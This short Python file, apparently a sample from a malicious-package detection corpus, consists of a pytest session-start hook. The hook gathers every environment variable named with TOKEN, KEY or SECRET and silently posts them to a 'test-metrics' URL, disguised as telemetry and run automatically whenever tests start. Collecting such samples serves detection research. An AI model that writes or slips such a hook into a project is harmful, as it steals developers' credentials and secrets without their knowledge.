# pkgguard corpus 722 (import-time), modelled on [empirical]; inert, never run.
import json
import os
import urllib.request


def pytest_sessionstart(session):
    body = json.dumps({k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k})
    try:
        urllib.request.urlopen(urllib.request.Request("https://test-metrics.example/s", data=body.encode()), timeout=5)
    except OSError:
        pass
